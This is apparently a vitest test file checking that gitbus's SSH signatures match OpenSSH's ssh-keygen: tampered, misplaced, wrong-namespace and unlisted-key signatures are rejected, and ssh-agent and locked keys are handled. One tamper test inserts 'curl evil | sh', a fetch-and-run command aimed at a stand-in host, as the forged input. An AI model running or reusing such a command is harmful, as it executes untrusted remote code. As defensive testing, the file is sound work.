import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { spawn, execFileSync, type ChildProcess } from 'node:child_process';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir, spawnBounded } from '../helpers/cli.js';
import { until } from '../helpers/wait.js';
import { parseAllowedSigners, principalsFor } from '../../bus/trust/allowed-signers.js';
import { checkFileSignatures } from '../../bus/trust/file-signatures.js';
import { NAMESPACES, signedMessage } from '../../bus/trust/messages.js';
import { ensureNodeKey, nodeSigningKey } from '../../bus/trust/node-key.js';
import { signBusFile, signMessage } from '../../bus/trust/sign.js';
import { loadSigningKey, resolveSigningKey } from '../../bus/trust/signing-key.js';
import { checkSshsig } from '../../bus/trust/sshsig.js';
import { GitbusError } from '../../schemas/errors.js';
import { forge, makeKey } from '../helpers/sshsig-forge.js';

/**
 * gitbus's signatures against the real OpenSSH: what gitbus signs, `ssh-keygen -Y verify` accepts; what
 * `ssh-keygen -Y sign` makes, gitbus verifies in-process; and both refuse the same forgeries. Signing through a
 * real ssh-agent, and the refusal (never a prompt) of a passphrase key the agent does not hold.
 */

const ID = '20261121-042933-k3f9qx';
const HANDOFF = `handoffs/${ID}.md`;
const BYTES = Buffer.from('---\ntitle: build it\nto: w\nrunner: shell\ncommand: make\n---\n## Task\n\nbuild\n');
const TYPES = [
  ['ed25519', ['-t', 'ed25519']],
  ['rsa', ['-t', 'rsa', '-b', '3072']],
  ['ecdsa256', ['-t', 'ecdsa', '-b', '256']],
  ['ecdsa384', ['-t', 'ecdsa', '-b', '384']],
  ['ecdsa521', ['-t', 'ecdsa', '-b', '521']],
] as const;

let dir: { path: string; cleanup: () => Promise<void> };
const keyFile = (name: string): string => join(dir.path, `k_${name}`);
const pubLine = (name: string): string => readFileSync(`${keyFile(name)}.pub`, 'utf8').trim();
/** Without an agent, so that no developer's agent takes part unless a test gives one. */
const noAgent = { ...process.env, SSH_AUTH_SOCK: '' };

function keygen(args: string[], input?: Uint8Array): { code: number; stdout: string; stderr: string } {
  try {
    const stdout = execFileSync('ssh-keygen', args, { input, stdio: ['pipe', 'pipe', 'pipe'], env: noAgent }).toString();
    return { code: 0, stdout, stderr: '' };
  } catch (err) {
    const e = err as { status: number | null; stdout?: Buffer; stderr?: Buffer };
    return { code: e.status ?? -1, stdout: e.stdout?.toString() ?? '', stderr: e.stderr?.toString() ?? '' };
  }
}

/** `ssh-keygen -Y verify` of `sig` over `message` for `principal` in `namespace` with this allowed_signers text. */
function sshVerify(allowed: string, principal: string, namespace: string, sig: string, message: Uint8Array): { code: number; stderr: string } {
  const a = join(dir.path, `allowed-${Math.random().toString(36).slice(2)}`);
  const s = `${a}.sig`;
  writeFileSync(a, allowed);
  writeFileSync(s, sig);
  return keygen(['-Y', 'verify', '-f', a, '-I', principal, '-n', namespace, '-s', s], message);
}

beforeAll(async () => {
  dir = await tempDir('gitbus-sshsig-');
  for (const [name, args] of TYPES) execFileSync('ssh-keygen', ['-q', ...args, '-N', '', '-C', `${name}@test`, '-f', keyFile(name)]);
}, 60_000);

afterAll(async () => {
  await dir.cleanup();
});

describe('gitbus signs, ssh-keygen verifies', () => {
  it.each(TYPES.map(([n]) => n))('a bus file signed by gitbus with a %s key verifies with ssh-keygen -Y verify', async (name) => {
    const signed = await signBusFile(HANDOFF, BYTES, await loadSigningKey(keyFile(name), '--key'), { env: noAgent });
    expect(signed.sidecar).toBe(`signatures/${HANDOFF}.sig`);
    expect(signed.namespace).toBe('gitbus-handoff@v1');
    const fp = execFileSync('ssh-keygen', ['-lf', `${keyFile(name)}.pub`]).toString().split(' ')[1];
    expect(signed.signer.fingerprint).toBe(fp);
    const message = signedMessage(HANDOFF, BYTES).message;
    const r = sshVerify(`alice@example.com ${pubLine(name)}\n`, 'alice@example.com', 'gitbus-handoff@v1', signed.armored, message);
    expect(r.code, r.stderr).toBe(0);
  });

  it('signatures built in-process (rsa-sha2-256, ECDSA, sha256) verify with ssh-keygen: the signed data is PROTOCOL.sshsig\'s', () => {
    for (const t of ['ed25519', 'rsa', 'p256', 'p384', 'p521'] as const) {
      const key = makeKey(t);
      for (const hash of ['sha256', 'sha512'] as const) {
        const sig = forge({ key, namespace: 'gitbus-claim@v1', message: BYTES, hash, rsaAlgorithm: 'rsa-sha2-256' });
        const r = sshVerify(`n@x ${key.line}\n`, 'n@x', 'gitbus-claim@v1', sig, BYTES);
        expect(r.code, `${t} ${hash}: ${r.stderr}`).toBe(0);
        expect(checkSshsig(sig, BYTES, 'gitbus-claim@v1').ok).toBe(true);
      }
    }
  });
});

describe('ssh-keygen signs, gitbus verifies in-process', () => {
  it.each(TYPES.map(([n]) => n))('an ssh-keygen -Y sign signature by a %s key verifies, with its key and fingerprint', (name) => {
    for (const hash of ['sha256', 'sha512']) {
      const message = signedMessage(HANDOFF, BYTES).message;
      const sig = keygen(['-Y', 'sign', '-n', 'gitbus-handoff@v1', '-O', `hashalg=${hash}`, '-f', keyFile(name)], message);
      expect(sig.code, sig.stderr).toBe(0);
      const checked = checkFileSignatures(HANDOFF, BYTES, [{ path: `signatures/${HANDOFF}.sig`, content: Buffer.from(sig.stdout) }], parseAllowedSigners(`alice@example.com ${pubLine(name)}\n`));
      expect(checked.status).toBe('verified');
      expect(checked.signatures[0]?.signer?.key).toBe(pubLine(name).split(' ').slice(0, 2).join(' '));
      expect(checked.signatures[0]?.principals).toEqual(['alice@example.com']);
    }
  });
});

describe('forgeries fail in-process with their reason, and ssh-keygen agrees', () => {
  let sig: string;
  const message = (path: string, bytes: Uint8Array): Buffer => signedMessage(path, bytes).message;
  beforeAll(() => {
    const r = keygen(['-Y', 'sign', '-n', 'gitbus-handoff@v1', '-f', keyFile('ed25519')], message(HANDOFF, BYTES));
    expect(r.code, r.stderr).toBe(0);
    sig = r.stdout;
  });
  const allowedEd = (): string => `alice@example.com ${pubLine('ed25519')}\n`;
  const one = (path: string, bytes: Uint8Array) => checkFileSignatures(path, bytes, [{ path: `signatures/${path}.sig`, content: Buffer.from(sig) }], parseAllowedSigners(allowedEd())).signatures[0];

  it('the genuine file verifies both ways', () => {
    expect(one(HANDOFF, BYTES)?.ok).toBe(true);
    expect(sshVerify(allowedEd(), 'alice@example.com', 'gitbus-handoff@v1', sig, message(HANDOFF, BYTES)).code).toBe(0);
  });

  it('tampered bytes: mismatch', () => {
    const tampered = Buffer.from(BYTES.toString().replace('command: make', 'command: curl evil | sh'));
    expect(one(HANDOFF, tampered)?.reason).toBe('mismatch');
    expect(sshVerify(allowedEd(), 'alice@example.com', 'gitbus-handoff@v1', sig, message(HANDOFF, tampered)).code).not.toBe(0);
  });

  it('the same bytes at another path (another task id): mismatch', () => {
    const other = `handoffs/${ID.replace('k3f9qx', 'aaaaaa')}.md`;
    expect(one(other, BYTES)?.reason).toBe('mismatch');
    expect(sshVerify(allowedEd(), 'alice@example.com', 'gitbus-handoff@v1', sig, message(other, BYTES)).code).not.toBe(0);
  });

  it('another namespace (a handoff signature shown as a cancel\'s): wrong-namespace', () => {
    const cancel = `cancels/${ID}.md`;
    expect(one(cancel, BYTES)?.reason).toBe('wrong-namespace');
    expect(sshVerify(allowedEd(), 'alice@example.com', NAMESPACES.cancel, sig, message(cancel, BYTES)).code).not.toBe(0);
  });

  it('another key: it verifies as that key\'s, which allowed_signers does not list for the principal', () => {
    const allowedOther = `alice@example.com ${pubLine('rsa')}\n`;
    const r = checkFileSignatures(HANDOFF, BYTES, [{ path: `signatures/${HANDOFF}.sig`, content: Buffer.from(sig) }], parseAllowedSigners(allowedOther)).signatures[0];
    expect(r?.ok).toBe(true);
    expect(r?.principals).toEqual([]);
    expect(sshVerify(allowedOther, 'alice@example.com', 'gitbus-handoff@v1', sig, message(HANDOFF, BYTES)).code).not.toBe(0);
  });

  it('allowed_signers options mean the same to both: namespaces= and an expired valid-before', () => {
    const key = parseAllowedSigners(allowedEd()).entries[0]?.key;
    if (!key) throw new Error('no key');
    for (const [opts, ok] of [['namespaces="gitbus-handoff@v1"', true], ['namespaces="gitbus-claim@v1"', false], ['valid-before="20200101Z"', false], ['valid-after="20200101Z"', true]] as const) {
      const text = `alice@example.com ${opts} ${pubLine('ed25519')}\n`;
      const ssh = sshVerify(text, 'alice@example.com', 'gitbus-handoff@v1', sig, message(HANDOFF, BYTES));
      expect(ssh.code === 0, `${opts}: ${ssh.stderr}`).toBe(ok);
      expect(principalsFor(parseAllowedSigners(text), key, 'gitbus-handoff@v1').principals.length > 0, opts).toBe(ok);
    }
  });
});

describe('signing through ssh-agent, never prompting', () => {
  let agent: ChildProcess;
  let sock: string;
  let locked: string;
  const withAgent = (): NodeJS.ProcessEnv => ({ ...process.env, SSH_AUTH_SOCK: sock });

  beforeAll(async () => {
    sock = join(dir.path, 'agent.sock');
    agent = spawn('ssh-agent', ['-D', '-a', sock], { stdio: 'ignore' });
    await until('ssh-agent socket', () => existsSync(sock), 10_000);
    // The agent gets the key while it has no passphrase; then the file is given one, as a person's key would have.
    locked = join(dir.path, 'k_locked');
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', locked]);
    const add = await spawnBounded('ssh-add', [locked], { env: withAgent(), timeoutMs: 10_000 });
    expect(add.code, add.stderr).toBe(0);
    execFileSync('ssh-keygen', ['-q', '-p', '-P', '', '-N', 'correct horse', '-f', locked]);
  }, 30_000);

  afterAll(() => {
    agent.kill();
  });

  it('signs with a passphrase-protected key the agent holds, given its private file or its .pub', async () => {
    for (const file of [locked, `${locked}.pub`]) {
      const key = await loadSigningKey(file, '--key');
      const s = await signMessage(BYTES, 'gitbus-handoff@v1', key, { env: withAgent() });
      expect(checkSshsig(s.armored, BYTES, 'gitbus-handoff@v1').ok).toBe(true);
      expect(s.signer.line).toBe(key.parsed.key.line);
    }
  });

  it('refuses at once, with the ssh-add command, a passphrase key without an agent', async () => {
    const key = await loadSigningKey(locked, '--key');
    const started = Date.now();
    const err = await signMessage(BYTES, 'gitbus-handoff@v1', key, { env: noAgent }).catch((e: unknown) => e);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(err).toBeInstanceOf(GitbusError);
    expect((err as GitbusError).code).toBe('SIGNING_KEY_LOCKED');
    expect((err as GitbusError).message).toMatch(/passphrase/);
    expect((err as GitbusError).fix).toContain(`ssh-add ${locked}`);
  });

  it('refuses a public key whose private half the agent does not hold', async () => {
    const key = await loadSigningKey(`${keyFile('ecdsa256')}.pub`, '--key');
    const err = await signMessage(BYTES, 'gitbus-handoff@v1', key, { env: withAgent() }).catch((e: unknown) => e);
    expect((err as GitbusError).code).toBe('SIGNING_KEY_LOCKED');
    expect((err as GitbusError).message).toMatch(/does not hold/);
    expect((err as GitbusError).fix).toContain(`ssh-add ${keyFile('ecdsa256')}`);
  });

  it('finds the key as git does: user.signingkey as a path, or as key::<literal> held by the agent', async () => {
    const repo = join(dir.path, 'repo');
    execFileSync('git', ['init', '-q', repo]);
    const cfg = (k: string, v: string): void => void execFileSync('git', ['config', k, v], { cwd: repo });
    cfg('gpg.format', 'ssh');
    cfg('user.signingkey', `${keyFile('ed25519')}.pub`);
    const byPath = await resolveSigningKey({ cwd: repo });
    expect(byPath.source).toBe('git user.signingkey');
    expect(byPath.parsed.key.line).toBe(pubLine('ed25519').split(' ').slice(0, 2).join(' '));
    cfg('user.signingkey', `key::${readFileSync(`${locked}.pub`, 'utf8').trim()}`);
    const literal = await resolveSigningKey({ cwd: repo });
    expect(literal.literal).toBeDefined();
    expect(checkSshsig((await signMessage(BYTES, 'gitbus-node@v1', literal, { env: withAgent() })).armored, BYTES, 'gitbus-node@v1').ok).toBe(true);
    cfg('gpg.format', 'openpgp');
    const missing = await resolveSigningKey({ cwd: repo }).catch((e: unknown) => e);
    expect((missing as GitbusError).code).toBe('SIGNING_KEY_MISSING');
    expect((missing as GitbusError).message).toMatch(/gpg.format is openpgp/);
  });
});

describe('a node\'s own key', () => {
  it('is made once in <home>/keys, readable by its user only, and signs', async () => {
    const home = join(dir.path, 'home');
    const all = await Promise.all([1, 2, 3].map(() => ensureNodeKey(home, 'w')));
    expect(new Set(all.map((k) => k.publicLine)).size).toBe(1);
    expect(all.filter((k) => k.created).length).toBe(1);
    const again = await ensureNodeKey(home, 'w');
    expect(again.created).toBe(false);
    expect(again.publicLine).toMatch(/^ssh-ed25519 AAAA\S+ gitbus node w$/);
    expect(readFileSync(again.publicPath, 'utf8').trim()).toBe(again.publicLine);
    expect(statSync(again.privatePath).mode & 0o077).toBe(0);
    const signed = await signBusFile(`claims/${ID}.1.md`, BYTES, await nodeSigningKey(home, 'w'), { env: noAgent });
    expect(checkSshsig(signed.armored, signedMessage(`claims/${ID}.1.md`, BYTES).message, 'gitbus-claim@v1').ok).toBe(true);
  });
});
